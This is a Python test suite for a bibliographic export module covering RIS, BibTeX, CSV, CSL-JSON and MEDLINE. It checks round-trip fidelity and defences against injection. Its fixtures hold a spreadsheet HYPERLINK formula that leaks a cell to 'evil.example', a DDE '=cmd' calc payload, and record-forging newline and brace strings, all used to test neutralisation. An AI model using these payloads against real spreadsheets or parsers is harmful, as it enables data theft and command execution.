"""Exports that parse: each format read back by an independent parser and re-ingested field by field.

Where our own ingest cannot read a field back, the case is marked ``xfail(strict=True)`` with the reason
(see ``GAPS``), so the gap stays visible and the mark has to go once the reader is fixed.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import bibtexparser
import pytest
import rispy
from Bio import Medline
from pylatexenc.latex2text import LatexNodes2Text

from recommender.export import (
    CSV_COLUMNS,
    FORMATS,
    Person,
    export_papers,
    file_extension,
    latex_escape,
    media_type,
    split_name,
)
from recommender.ingest import Rejected, read_paths
from recommender.ingest.detect import MAX_JSON_DOCUMENT_BYTES
from recommender.paper import Paper

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PAPERS = {
    "unicode": Paper(
        id="doi:10.5555/omics.2021.7",
        title="Role of TNF-α and IL-1β in Crohn’s disease: a “pilot” study of Ωmega cells",
        abstract="Tumour necrosis factor α (TNF-α) and interleukin-1β drive inflammation; Δ=0.3 (p<0.05).",
        doi="10.5555/omics.2021.7",
        pmid="34000001",
        pmcid="PMC9000001",
        journal="Journal of Ωmics & Inflammation",
        year=2021,
        authors=["Jan van der Berg", "Σωκράτης Παπαδόπουλος", "Zoë Ångström-Müller", "Aristotle"],
        keywords=["inflammation", "TNF-α", "Neoplasms, Experimental"],
        mesh_terms=["Humans", "Crohn Disease"],
        labels=["immunology"],
    ),
    "punctuation": Paper(
        id="doi:10.5555/punct_2019%3a1",
        title='On {braces}, "quotes", commas & 50% of $costs$ -- a_b #1 ~tilde \\ backslash',
        abstract='An abstract with {braces}, "quotes" and commas, plus 100% & $5 -- and a \\ backslash.',
        doi="10.5555/punct_2019%3a1",
        pmid="31000002",
        journal="Annals of {Odd} Punctuation, Series B",
        year=2019,
        authors=["Ludwig van Beethoven", "Maria de la Cruz", "Seán O'Brien"],
        keywords=["punctuation"],
    ),
    "sparse": Paper(
        id="pmid:32000003",
        title="A paper with no year, no DOI and a single author",
        abstract="Sparse metadata: only a PMID, a title and one author.",
        pmid="32000003",
        pmcid="PMC7000003",
        authors=["María José García-López"],
    ),
    "formula": Paper(
        id="h:0123456789abcdef",
        title=FORMULA_TITLE,
        abstract="+1 improvement; see @SUM(A1:A9) and -2 worsening.",
        journal="Journal of Spreadsheet Hygiene",
        year=2024,
        authors=["Ada Lovelace", "Charles Babbage"],
        keywords=["=cmd|' /C calc'!A0"],
    ),
}
TAGS = {"doi:10.5555/omics.2021.7": ["Theme 3: cytokines"], "h:0123456789abcdef": ["Theme 1"]}
FIELDS = ("title", "abstract", "doi", "pmid", "pmcid", "journal", "year", "authors", "keywords", "mesh_terms")
GAPS = {
    ("csv", "formula", "title"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
    ("csv", "formula", "abstract"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
    ("csv", "formula", "keywords"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
}


def expected(paper: Paper, fmt: str, field: str) -> object:
    """What a faithful re-ingest gives: tags and labels join the keywords, MeSH too outside MEDLINE."""
    extra = TAGS.get(paper.id, [])
    if field == "keywords":
        mesh = [] if fmt == "medline" else paper.mesh_terms
        return [*paper.keywords, *paper.labels, *extra, *mesh]
    if field == "mesh_terms":
        return paper.mesh_terms if fmt == "medline" else []
    return getattr(paper, field)


def export_text(fmt: str, papers: list[Paper] | None = None) -> str:
    buffer = io.StringIO(newline="")
    count = export_papers(papers if papers is not None else PAPERS.values(), fmt, buffer, tags=TAGS)
    assert count == (len(papers) if papers is not None else len(PAPERS))
    return buffer.getvalue()


def ingest(tmp_path: Path, fmt: str, text: str) -> list[Paper]:
    path = tmp_path / f"export{file_extension(fmt)}"
    path.write_text(text, encoding="utf-8", newline="")
    items = [item for _, _, item in read_paths([path])]
    rejected = [item for item in items if isinstance(item, Rejected)]
    assert not rejected, rejected
    return items  # type: ignore[return-value]


@pytest.fixture(scope="module")
def reingested(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Paper]]:
    return {fmt: ingest(tmp_path_factory.mktemp(fmt), fmt, export_text(fmt)) for fmt in FORMATS}


def _cases() -> list[object]:
    cases = []
    for fmt in FORMATS:
        for name in PAPERS:
            for field in FIELDS:
                present = expected(PAPERS[name], fmt, field) not in (None, [])  # nothing to lose otherwise
                reason = GAPS.get((fmt, name, field)) or (present and GAPS.get((fmt, "*", field)))
                marks = [pytest.mark.xfail(strict=True, reason=reason)] if reason else []
                cases.append(pytest.param(fmt, name, field, marks=marks, id=f"{fmt}-{name}-{field}"))
    return cases


@pytest.mark.parametrize(("fmt", "name", "field"), _cases())
def test_reingest_gives_back_every_field(reingested: dict[str, list[Paper]], fmt: str, name: str, field: str) -> None:
    papers = reingested[fmt]
    assert len(papers) == len(PAPERS)
    got = papers[list(PAPERS).index(name)]
    assert getattr(got, field) == expected(PAPERS[name], fmt, field)


def test_ris_parses_with_rispy() -> None:
    entries = rispy.loads(export_text("ris"))
    assert len(entries) == len(PAPERS)
    first, punctuation, sparse = entries[0], entries[1], entries[2]
    assert first["title"] == PAPERS["unicode"].title
    assert first["authors"] == ["van der Berg, Jan", "Παπαδόπουλος, Σωκράτης", "Ångström-Müller, Zoë", "Aristotle"]
    assert first["secondary_title"] == "Journal of Ωmics & Inflammation"
    assert first["year"] == "2021"
    assert first["doi"] == "10.5555/omics.2021.7"
    assert first["accession_number"] == "34000001"
    assert first["custom2"] == "PMCID: PMC9000001"  # C2, as Zotero writes the PMCID
    assert first["keywords"][-2:] == ["Humans", "Crohn Disease"]
    assert "Theme 3: cytokines" in first["keywords"]
    assert punctuation["title"] == PAPERS["punctuation"].title
    assert "year" not in sparse and "doi" not in sparse
    assert sparse["authors"] == ["García-López, María José"]


def test_bibtex_parses_with_bibtexparser_and_decodes_to_the_original() -> None:
    library = bibtexparser.parse_string(export_text("bibtex"))
    assert not library.failed_blocks
    assert len(library.entries) == len(PAPERS)
    assert len({entry.key for entry in library.entries}) == len(PAPERS)
    decode = LatexNodes2Text().latex_to_text
    for entry, paper in zip(library.entries, PAPERS.values(), strict=True):
        fields = {name: field.value for name, field in entry.fields_dict.items()}
        assert decode(fields["title"]) == paper.title  # braces, %, &, $, _, #, ~, \ and "--" all survive
        assert decode(fields["abstract"]) == paper.abstract
    first = {name: field.value for name, field in library.entries[0].fields_dict.items()}
    assert first["author"] == "van der Berg, Jan and Παπαδόπουλος, Σωκράτης and Ångström-Müller, Zoë and {Aristotle}"
    assert first["year"] == "2021" and first["doi"] == "10.5555/omics.2021.7" and first["pmid"] == "34000001"
    assert first["pmcid"] == "PMC9000001"
    assert "{Neoplasms, Experimental}" in first["keywords"]
    sparse = {name for name in library.entries[2].fields_dict}
    assert "year" not in sparse and "doi" not in sparse


def test_csv_parses_with_zotero_columns_and_neutralised_formulas() -> None:
    text = export_text("csv")
    assert text.startswith("\ufeff")  # as Zotero writes it, for Excel
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == len(PAPERS)
    first, _, sparse, formula = rows
    assert first["Author"] == "van der Berg, Jan; Παπαδόπουλος, Σωκράτης; Ångström-Müller, Zoë; Aristotle"
    assert first["Extra"] == "PMID: 34000001\nPMCID: PMC9000001" and first["Publication Year"] == "2021"
    assert first["Manual Tags"].split("; ")[-1] == "Crohn Disease"
    assert sparse["Publication Year"] == "" and sparse["DOI"] == ""
    assert formula["Title"] == "'" + FORMULA_TITLE
    assert formula["Abstract Note"].startswith("'+1")
    assert formula["Manual Tags"].startswith("'=cmd")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csl_json_parses_as_json() -> None:
    items = json.loads(export_text("csl-json"))
    assert [item["id"] for item in items] == [paper.id for paper in PAPERS.values()]
    first = items[0]
    assert first["type"] == "article-journal"
    assert first["author"][:2] == [
        {"family": "van der Berg", "given": "Jan"},
        {"family": "Παπαδόπουλος", "given": "Σωκράτης"},
    ]
    assert first["author"][3] == {"family": "Aristotle"}
    assert first["issued"] == {"date-parts": [[2021]]}
    assert first["DOI"] == "10.5555/omics.2021.7" and first["PMID"] == "34000001"
    assert first["PMCID"] == "PMC9000001"
    assert first["container-title"] == "Journal of Ωmics & Inflammation"
    assert "issued" not in items[2] and "DOI" not in items[2]


def test_medline_parses_with_biopython() -> None:
    records = list(Medline.parse(io.StringIO(export_text("medline"))))
    assert len(records) == len(PAPERS)
    first = records[0]
    assert first["PMID"] == "34000001" and first["DP"] == "2021" and first["PMC"] == "PMC9000001"
    assert first["FAU"][:2] == ["van der Berg, Jan", "Παπαδόπουλος, Σωκράτης"]
    assert first["AU"][0] == "van der Berg J"
    assert first["LID"] == "10.5555/omics.2021.7 [doi]"
    assert first["MH"] == ["Humans", "Crohn Disease"]
    assert first["OT"] == ["inflammation", "TNF-α", "Neoplasms, Experimental", "immunology", "Theme 3: cytokines"]
    assert "DP" not in records[2] and "LID" not in records[2]


HOSTILE = Paper(
    id="h:hostile",
    title="Legit title\nER  - \n\nTY  - JOUR\nTI  - Injected\nPMID- 999\n}, title = {pwn} @article{evil, title={x}}",
    abstract="Line one\r\nAB  - injected\n      continuation\x00\x1b[31m\u2028PMID- 1\n@misc{x,}",
    journal="J\nJT  - Fake",
    year=2020,
    authors=["Eve\nAU  - Mallory", "}, author = {Nobody"],
    keywords=["k\nKW  - injected"],
)


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_text_cannot_start_a_record_tag_or_field(tmp_path: Path, fmt: str) -> None:
    text = export_text(fmt, [HOSTILE, PAPERS["sparse"]])
    papers = ingest(tmp_path, fmt, text)
    assert len(papers) == 2
    assert papers[1].title == PAPERS["sparse"].title
    assert papers[0].title == " ".join(HOSTILE.title.split())  # braces and all, in BibTeX too
    assert "Injected" not in {paper.title for paper in papers}
    if fmt in ("ris", "medline"):
        lines = text.splitlines()
        for tag, count in {
            "ris": {"TY  -": 2, "ER  -": 2, "AB  -": 2, "KW  -": 1},
            "medline": {"PMID-": 1, "AB  -": 2},
        }[fmt].items():
            assert sum(line.startswith(tag) for line in lines) == count, tag


def test_bibtex_escapes_every_special_character() -> None:
    assert latex_escape("a{b}c\\d&e%f$g#h_i~j^k") == (
        r"a\{b\}c\textbackslash{}d\&e\%f\$g\#h\_i\textasciitilde{}j\textasciicircum{}k"
    )
    assert latex_escape("A--B ``q'' ?`") == "A-{}-B `{}`q'{}' ?{}`"
    assert latex_escape("Ωmega α-β") == "Ωmega α-β"  # Unicode is kept: biber and modern BibTeX read UTF-8


@pytest.mark.parametrize(
    ("name", "person"),
    [
        ("Jan van der Berg", Person("van der Berg", "Jan")),
        ("Maria de la Cruz", Person("de la Cruz", "Maria")),
        ("Aristotle", Person("Aristotle")),
        ("John Smith Jr", Person("Smith", "John", "Jr")),
        ("Wang B", Person("Wang", "B")),
        ("Wang, Bofang", Person("Wang", "Bofang")),
        ("Σωκράτης Παπαδόπουλος", Person("Παπαδόπουλος", "Σωκράτης")),
        ("WHO Collaborative Group", Person("WHO Collaborative Group", organisation=True)),
    ],
)
def test_names_are_split_into_family_and_given(name: str, person: Person) -> None:
    assert split_name(name) == person


def test_one_part_names_and_and_stay_whole_in_bibtex() -> None:
    paper = Paper(id="x", title="t", abstract="a", authors=["WHO Collaborative Group", "Bill and Melinda Gates"])
    author = bibtexparser.parse_string(export_text("bibtex", [paper])).entries[0].fields_dict["author"].value
    assert author == "{WHO Collaborative Group} and Gates, {Bill and Melinda}"


def test_csl_json_keeps_suffixes_and_organisations() -> None:
    paper = Paper(id="x", title="t", abstract="a", authors=["John Smith Jr", "WHO Collaborative Group"])
    (item,) = json.loads(export_text("csl-json", [paper]))
    assert item["author"] == [
        {"family": "Smith", "given": "John", "suffix": "Jr"},
        {"literal": "WHO Collaborative Group"},
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_papers_is_still_a_valid_file(fmt: str) -> None:
    text = export_text(fmt, [])
    assert text == {"csv": "\ufeff" + ",".join(CSV_COLUMNS) + "\r\n", "csl-json": "[]\n"}.get(fmt, "")


def test_unknown_format_names_the_choices() -> None:
    with pytest.raises(ValueError, match="ris, bibtex, csv, csl-json, medline"):
        export_papers([], "endnote", io.StringIO())
    with pytest.raises(ValueError, match="choose one of"):
        media_type("xml")
    with pytest.raises(ValueError, match="choose one of"):
        file_extension("xml")


def test_media_types_and_extensions() -> None:
    assert [file_extension(fmt) for fmt in FORMATS] == [".ris", ".bib", ".csv", ".json", ".nbib"]
    assert media_type("csv") == "text/csv; charset=utf-8"
    assert media_type("csl-json") == "application/vnd.citationstyles.csl+json"


def test_tags_given_as_one_string_are_one_tag() -> None:
    paper = Paper(id="x", title="t", abstract="a")
    buffer = io.StringIO()
    export_papers([paper], "medline", buffer, tags={"x": "Theme 2"})  # type: ignore[dict-item]
    assert "OT  - Theme 2\n" in buffer.getvalue()


def generated(count: int) -> list[Paper]:
    return [
        Paper(
            id=f"doi:10.5555/bench.{number}",
            title=f"Generated paper {number} on α-synuclein {{aggregation}} & 50% noise",
            abstract="Background: " + "Sentence about cells and tissues. " * 40,
            doi=f"10.5555/bench.{number}",
            pmid=str(30_000_000 + number),
            journal="Journal of Benchmarks",
            year=2000 + number % 25,
            authors=["Jan van der Berg", "Ada Lovelace", "Σωκράτης Παπαδόπουλος"],
            keywords=["benchmark", "export"],
            mesh_terms=["Humans"],
            labels=[f"label {number % 7}"],
        )
        for number in range(count)
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_twenty_thousand_papers_export_in_one_pass(fmt: str) -> None:
    """Scale check without a timing assertion (scripts/bench_export.py measures the time)."""
    papers = generated(20_000)
    buffer = io.StringIO(newline="")
    assert export_papers(iter(papers), fmt, buffer, tags={papers[0].id: ["Theme 1"]}) == 20_000
    text = buffer.getvalue()
    marker = {"ris": "\nER  - ", "bibtex": "\n@article{", "csv": "\r\njournalArticle", "medline": "\nDP  - "}
    if fmt == "csl-json":
        assert len(json.loads(text)) == 20_000
    elif fmt == "csv":
        assert sum(1 for _ in csv.reader(io.StringIO(text, newline=""))) == 20_001
    elif fmt == "bibtex":
        assert text.count(marker[fmt]) == 20_000 - 1  # the first entry starts the file
    else:
        assert text.count(marker[fmt]) == 20_000


def test_a_csl_json_export_larger_than_the_json_document_cap_is_reingested(tmp_path: Path) -> None:
    """A CSL-JSON export of 20,000 papers is ~40 MB, over the 20 MB a JSON document is read whole: it is
    streamed item by item instead. 2,300 papers with long abstracts make the same size class quickly."""
    papers = [
        dataclasses.replace(paper, abstract=(paper.abstract * 7).strip(), pmcid=f"PMC{8_000_000 + number}")
        for number, paper in enumerate(generated(2300))
    ]
    path = tmp_path / "export.json"
    with path.open("w", encoding="utf-8") as out:
        export_papers(papers, "csl-json", out)
    assert path.stat().st_size > MAX_JSON_DOCUMENT_BYTES
    items = [item for _, _, item in read_paths([path])]
    assert len(items) == len(papers) and not [item for item in items if isinstance(item, Rejected)]
    for got, sent in ((items[0], papers[0]), (items[-1], papers[-1])):
        assert isinstance(got, Paper)
        for field in ("id", "title", "abstract", "doi", "pmid", "pmcid", "journal", "year", "authors"):
            assert getattr(got, field) == getattr(sent, field), field
